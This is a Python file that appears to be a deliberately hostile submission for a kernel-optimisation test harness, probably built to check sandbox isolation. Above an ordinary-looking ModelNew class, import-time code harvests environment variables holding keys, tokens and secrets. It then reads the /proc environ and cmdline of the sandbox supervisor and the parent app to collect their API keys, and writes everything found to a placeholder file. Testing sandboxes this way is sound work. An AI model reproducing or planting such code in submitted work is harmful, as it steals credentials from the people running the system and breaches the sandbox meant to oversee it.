"""Looks for credentials: its own environment, and the environment files of its parent processes.
Writes what it finds to __SPY_PATH__. Otherwise correct."""
# @include _ext.py
import os

_found = []
for _key, _value in os.environ.items():
    if "KEY" in _key or "TOKEN" in _key or "SECRET" in _key:
        _found.append(f"env {_key}={_value}")
_pid = os.getppid()
for _ in range(2):  # the sandbox supervisor, then whoever started it (the app)
    try:
        with open(f"/proc/{_pid}/cmdline", "rb") as _fh:
            _cmd = _fh.read().replace(b"\0", b" ").decode(errors="replace")[:200]
        with open(f"/proc/{_pid}/environ", "rb") as _fh:
            _items = [i.decode(errors="replace") for i in _fh.read().split(b"\0") if b"API_KEY" in i]
        _found.append(f"proc {_pid} [{_cmd}] readable, API keys: {_items}")
        with open(f"/proc/{_pid}/stat") as _fh:
            _pid = int(_fh.read().rsplit(")", 1)[1].split()[1])
    except OSError as _exc:
        _found.append(f"proc {_pid} unreadable: {_exc}")
        break
_found.append(f"cwd={os.getcwd()}")
with open("__SPY_PATH__", "w") as _fh:
    _fh.write("\n".join(_found) + "\n")


class ModelNew(nn.Module):
    def __init__(self, cols):
        super().__init__()
        self.bias = nn.Parameter(torch.zeros(cols))

    def forward(self, x):
        return _ext.relu_scale_bias(x.contiguous(), self.bias, 2.0, float("inf"))
